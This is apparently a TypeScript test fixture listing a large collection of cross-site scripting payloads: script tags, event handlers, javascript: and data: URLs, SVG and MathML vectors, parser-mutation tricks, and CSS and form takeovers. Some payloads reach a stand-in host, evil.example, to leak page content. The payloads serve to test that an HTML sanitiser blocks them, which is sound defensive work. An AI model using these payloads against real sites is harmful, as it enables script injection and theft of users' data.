// What people have tried to get a script, a style or a request past a sanitiser. Each would call `hacked()`, or ask for
// something under /xss-canary, if it were let through. Written for this product after the kinds of attack that the
// public lists name; a place that shows a server's HTML must survive all of them (xss.e2e.ts).

const SCRIPTS = [
  `<script>hacked()</script>`,
  `<scr<script>ipt>hacked()</scr</script>ipt>`,
  `<script src=/xss-canary></script>`,
  `<script type=module>hacked()</script>`,
  `<svg><script>hacked()</script></svg>`,
  `<svg><script href=/xss-canary /></svg>`,
  `<svg><script xlink:href="data:text/javascript,hacked()" /></svg>`,
  `<link rel=modulepreload href=/xss-canary>`,
  `<script>import(String('/xss-canary'))</script>`,
];

const HANDLERS = [
  `<img src=x onerror=hacked()>`,
  `<img src=x onerror="hacked()"//`,
  `<img/src=x/onerror=hacked()>`,
  `<img src=x onerror\n=\nhacked()>`,
  `<img src=x oNeRrOr=hacked()>`,
  `<img srcset="x 1x" onerror=hacked()>`,
  `<img src=/seal.svg onload=hacked()>`,
  `<p onclick=hacked()>x</p>`,
  `<a href=# onfocus=hacked() autofocus>x</a>`,
  `<b tabindex=1 onfocus=hacked() autofocus>x</b>`,
  `<b onanimationstart=hacked() style="animation:run 1s">x</b>`,
  `<details open ontoggle=hacked()><summary>x</summary></details>`,
  `<video><source onerror=hacked()></video>`,
  `<video src=/xss-canary onloadstart=hacked()></video>`,
  `<marquee onstart=hacked()>x</marquee>`,
  `<body onload=hacked()>`,
  `<input onfocus=hacked() autofocus>`,
  `<dialog open oncancel=hacked() onclose=hacked()>x</dialog>`,
  `<button popovertarget=p onclick=hacked()>x</button><p id=p popover onbeforetoggle=hacked()>x</p>`,
  `<x onscrollsnapchange=hacked() oncontentvisibilityautostatechange=hacked() style="content-visibility:auto">x</x>`,
];

const ADDRESSES = [
  `<a href="javascript:hacked()">x</a>`,
  `<a href="JaVaScRiPt:hacked()">x</a>`,
  `<a href="java&#9;script:hacked()">x</a>`,
  `<a href="java&Tab;script&colon;hacked()">x</a>`,
  `<a href="&#1;javascript:hacked()">x</a>`,
  `<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;hacked()">x</a>`,
  `<a href="javascript&#58;hacked()">x</a>`,
  `<a href="javascript://%0ahacked()">x</a>`,
  `<a href="data:text/html,<script>hacked()</script>">x</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5wYXJlbnQuaGFja2VkKCk8L3NjcmlwdD4=">x</a>`,
  `<a href="\u00a0javascript:hacked()">x</a>`,
  `<a href="\u2028javascript:hacked()">x</a>`,
  `<a href="blob:null/hacked">x</a>`,
  `<a ping=/xss-canary href=/home>x</a>`,
  `<area href="javascript:hacked()">`,
  `<img src="javascript:hacked()">`,
  `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='parent.hacked()'/>">`,
  `<svg><a xlink:href="javascript:hacked()"><text>x</text></a></svg>`,
  `<svg><animate xlink:href=#a attributeName=href values=javascript:hacked() /><a id=a><text>x</text></a></svg>`,
  `<svg><set attributeName=onmouseover to=hacked() /></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><a href='javascript:hacked()'/></svg>#x" /></svg>`,
  `<math href="javascript:hacked()">x</math>`,
  `<math><maction actiontype=statusline xlink:href="javascript:hacked()">x</maction></math>`,
];

const FRAMES = [
  `<iframe src="javascript:parent.hacked()"></iframe>`,
  `<iframe srcdoc="<script>parent.hacked()</script>"></iframe>`,
  `<iframe srcdoc="&lt;img src=x onerror=parent.hacked()&gt;"></iframe>`,
  `<iframe src=/xss-canary></iframe>`,
  `<frameset onload=hacked()><frame src=/xss-canary></frameset>`,
  `<object data="javascript:hacked()"></object>`,
  `<object data=/xss-canary></object>`,
  `<object data="data:text/html,<script>parent.hacked()</script>" type=text/html></object>`,
  `<embed src="javascript:hacked()">`,
  `<portal src=/xss-canary></portal>`,
];

const VECTORS = [
  `<svg onload=hacked()>`,
  `<svg><g onload=hacked()></g></svg>`,
  `<svg><animate onbegin=hacked() attributeName=x dur=1s></svg>`,
  `<svg><image href=/xss-canary onerror=hacked() /></svg>`,
  `<svg><foreignObject><img src=x onerror=hacked()></foreignObject></svg>`,
  `<svg><feImage href=/xss-canary /></svg>`,
  `<svg><style>@import url(/xss-canary);</style></svg>`,
  `<math><mi//xlink:href="data:x,<script>hacked()</script>">`,
  `<math><mtext><img src=x onerror=hacked()></mtext></math>`,
];

// What one parser reads as text and the next one as markup.
const MUTATIONS = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hacked()&gt;">`,
  `<svg></p><style><a id="</style><img src=1 onerror=hacked()>">`,
  `<math></p><style><!--</style><img src=1 onerror=hacked()>--></style></math>`,
  `<noembed><img title="</noembed><img src onerror=hacked()>"></noembed>`,
  `<xmp><p title="</xmp><svg/onload=hacked()>"></xmp>`,
  `<iframe><p title="</iframe><svg/onload=hacked()>"></iframe>`,
  `<title><p title="</title><svg/onload=hacked()>"></title>`,
  `<template><img src=x onerror=hacked()></template>`,
  `<div><template shadowrootmode=open><img src=x onerror=hacked()></template></div>`,
  `<select><template><img src=x onerror=hacked()></template></select>`,
  `<table><caption><svg><title><style><img title="</style></title><img src=x onerror=hacked()>"></svg></table>`,
  `<svg><desc><template><style><a title="</style></template></desc><img src=x onerror=hacked()>"></svg>`,
  `<p title="\`<img src=x onerror=hacked()>">x</p>`,
  `<a title='"><img src=x onerror=hacked()>'>x</a>`,
  `<img alt="\`><img src=x onerror=hacked()>">`,
  `<b title="&lt;/b&gt;&lt;img src=x onerror=hacked()&gt;">x</b>`,
  `&lt;img src=x onerror=hacked()&gt;`,
  `<![CDATA[<img src=x onerror=hacked()>]]>`,
  `<?xml version="1.0"?><img src=x onerror=hacked()>`,
  `<!--><img src=x onerror=hacked()>-->`,
  `<!-- --!><img src=x onerror=hacked()> -->`,
  `<svg><![CDATA[</svg><img src=x onerror=hacked()>]]></svg>`,
];

// No script, but the page would not be ours any more, or somebody would hear of its reader.
const TAKEOVERS = [
  `<style>@import url(/xss-canary); body{display:none}</style>`,
  `<p style="background:url(/xss-canary)">x</p>`,
  `<p style="position:fixed;inset:0;z-index:9999">x</p>`,
  `<link rel=stylesheet href=/xss-canary>`,
  `<base href="https://evil.example/xss-canary/">`,
  `<meta http-equiv=refresh content="0;url=/xss-canary">`,
  `<meta http-equiv=Set-Cookie content="x=1">`,
  `<form action=/xss-canary><input name=mem_password><button autofocus>x</button></form>`,
  `<form id=f action=/xss-canary></form><button form=f formaction="javascript:hacked()">x</button>`,
  `<input type=image src=/xss-canary>`,
  `<isindex action="javascript:hacked()" type=image>`,
  `<table background=/xss-canary><tr><td background=/xss-canary>x</td></tr></table>`,
  `<video poster=/xss-canary></video>`,
  `<img src="https://evil.example/xss-canary?x">`,
  `<img src="//evil.example/xss-canary?x">`,
  `<picture><source srcset=/xss-canary><img src=x></picture>`,
  `<p id=root name=location class=mourning data-theme=dark>x</p>`,
  `<img name=getElementById src=x><form name=cookie><input name=parentNode></form>`,
  `<a id=location href="https://evil.example/xss-canary">x</a>`,
  `<img src='https://evil.example/xss-canary?the rest of the page`,
  `<a href="https://evil.example/xss-canary" target="the rest of the page`,
];

// These swallow what comes after them, so each travels by itself.
const GREEDY = [
  `<noscript><p title="</noscript><img src=x onerror=hacked()>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=hacked()>`,
  `<plaintext><img src=x onerror=hacked()>`,
  `<img src=x onerror=hacked() title="<!--`,
];

const ORDERLY = [
  ...SCRIPTS,
  ...HANDLERS,
  ...ADDRESSES,
  ...FRAMES,
  ...VECTORS,
  ...MUTATIONS,
  ...TAKEOVERS,
];

export const XSS_PAYLOADS: readonly string[] = [...ORDERLY, ...GREEDY];

/** Ends whatever a payload has left open, so that the next one begins as markup and not as text. */
const END = `'">--></script></style></textarea></title></noscript></template></xmp></iframe></noembed></noframes></select></svg></math></table></caption></table></svg></math></mtext></math></form></a></b>`;

export const XSS_MARK = 'ข้อความจากสหกรณ์';
const mark = `<p>${XSS_MARK}</p>`;

/** All payloads in as few texts as carry each of them whole. After each orderly one stands a mark. */
export const XSS_TEXTS: readonly { html: string; marks: number }[] = [
  {
    html: mark + ORDERLY.map((script) => script + END + mark).join('\n'),
    marks: ORDERLY.length + 1,
  },
  ...GREEDY.map((text) => ({ html: mark + text, marks: 1 })),
];
